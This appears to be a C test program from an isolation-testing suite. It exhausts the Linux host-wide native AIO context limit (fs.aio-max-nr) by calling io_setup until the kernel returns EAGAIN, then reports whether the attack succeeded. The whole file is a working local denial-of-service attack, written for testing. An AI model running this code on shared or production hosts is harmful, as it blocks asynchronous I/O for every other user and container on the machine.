// Exhausting native AIO contexts: fs.aio-max-nr counts them for the whole host, not per user or
// per namespace, so whoever holds them all leaves none to anyone. Sets up contexts until the kernel
// refuses (EAGAIN), then releases them on exit.
#include <linux/aio_abi.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

int main(void) {
    enum { kEventsPerContext = 4096, kMaxContexts = 1 << 16 };
    static aio_context_t contexts[kMaxContexts];
    int held = 0;
    while (held < kMaxContexts) {
        contexts[held] = 0;
        if (syscall(SYS_io_setup, kEventsPerContext, &contexts[held]) != 0) {
            break;
        }
        ++held;
    }
    const int err = errno;
    if (held == 0) {
        return attack_failed("aio_exhaust", err);
    }
    if (err != EAGAIN) {
        return attack_broken("aio_exhaust", "io_setup stopped short of aio-max-nr");
    }
    return attack_report("aio_exhaust", "SUCCEEDED", ATTACK_SUCCEEDED,
                         "held %d contexts of %d events: aio-max-nr exhausted for the host", held,
                         kEventsPerContext);
}
